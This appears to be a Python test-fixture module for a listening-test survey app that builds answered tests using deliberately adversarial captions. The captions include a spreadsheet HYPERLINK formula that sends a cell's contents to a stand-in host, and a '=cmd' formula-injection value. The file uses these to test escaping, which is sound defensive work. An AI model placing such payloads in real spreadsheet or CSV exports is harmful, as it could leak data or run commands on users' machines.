"""Tests of each kind that simulated people have answered through the services, with captions that try to do harm."""

from uuid import UUID, uuid4

from listening_tests.answers import Answer, Given, Hearing
from listening_tests.choices import PairRole, TestKind
from listening_tests.models import (
    Caption,
    Comparison,
    Exclusion,
    ListeningTest,
    Question,
    Questionnaire,
    Rating,
    ScaleLabel,
    Session,
)
from listening_tests.selectors import assignments_open
from listening_tests.services.ratings import rating_submit
from listening_tests.services.sessions import session_start
from listening_tests.services.trials import anchors_complete, trials_make
from tests.factories import make_caption, make_pair, make_test

HOSTILE = (
    '=HYPERLINK("http://example.org/?x="&A1,"A dog")',
    '\'tis & a 100 % <b>"loud"</b> + dog, =1',
    "'=1 begins with an apostrophe",
    "-2 dogs\r\nand\nlines\tand tabs",
    "كلب ينبح 🐕\u2028 犬が吠える",
    "é" * 2_000,
)


def make_answered(kind: str, *, n_raters: int = 2, n_captions: int = 3) -> ListeningTest:
    """A test of this kind whose raters have answered all that it has; some answers are excluded."""
    test = make_test(kind=kind)
    if kind == TestKind.RATING:
        _ask_two_more(test)
    for number, text in enumerate(HOSTILE[:n_captions]):
        caption = Caption.objects.filter(text=text).first() or make_caption(text)
        for system in ("one", "-two", "three")[: 1 if kind == TestKind.RATING else 3]:
            role = PairRole.GOLD if kind == TestKind.RATING and number == 0 else PairRole.STUDY
            make_pair(
                test,
                caption=caption,
                role=role,
                system=system,
                source_id=f"source {number}",
                expected_min=0.1 + 0.2,
                own_split="heldout" if number == 1 else None,
            )
    trials_make(test=test)
    anchors_complete(test=test)
    for number in range(n_raters):
        _sit(test, UUID(int=uuid4().int), number)
    _exclude_some(test)
    return test


def _ask_two_more(test: ListeningTest) -> None:
    quality = Question.objects.create(
        test=test, name="quality", prompt="How good is it, 1 = bad?", scale_min=1, scale_max=5, min_label="bad"
    )
    ScaleLabel.objects.create(question=quality, value=3, text='fair, "+1"')
    ScaleLabel.objects.create(question=quality, value=4, text="良い")
    Question.objects.create(test=test, name="order", scale_min=-1, scale_max=0.7, scale_step=0)


def _sit(test: ListeningTest, rater: UUID, number: int) -> None:
    session = session_start(test=test, rater_uuid=rater)
    while leases := assignments_open(session=Session.objects.get(pk=session.pk)):
        pairs = leases[0].pairs
        answer = Answer(
            client_uuid=uuid4(),
            given=_given(test, len(pairs), number),
            heard=tuple(Hearing(plays=1 + number, heard_s=1 - number / 300) for _ in pairs),
            elapsed_s=1.0,
        )
        rating_submit(session=session, assignment_uuid=leases[0].uuid, answer=answer)
    Questionnaire.objects.create(session=session, device="headphones")


def _given(test: ListeningTest, n_places: int, number: int) -> Given:
    if test.kind == TestKind.COMPARISON:
        return {"relevance": (("first", "none")[number % 2],)}
    scores: Given = {"relevance": tuple(float((3 * number + place) % 11) for place in range(n_places))}
    if test.kind == TestKind.RATING:
        scores = {**scores, "quality": (4.0,), "order": (0.1 + 0.2 - number / 3,)}
    return scores


def _exclude_some(test: ListeningTest) -> None:
    told = {"rule": "too-fast", "version": 2, "reason": '=cmd "said"; so\n(犬)'}
    for model, name in ((Rating, "rating"), (Comparison, "comparison")):
        answers = list(model.objects.filter(test=test).order_by("pk")[:2])
        Exclusion.objects.bulk_create(Exclusion(**{name: answer}, **told) for answer in answers)
        Exclusion.objects.bulk_create(
            Exclusion(**{name: one}, rule="anchors", reason="All high.") for one in answers[:1]
        )
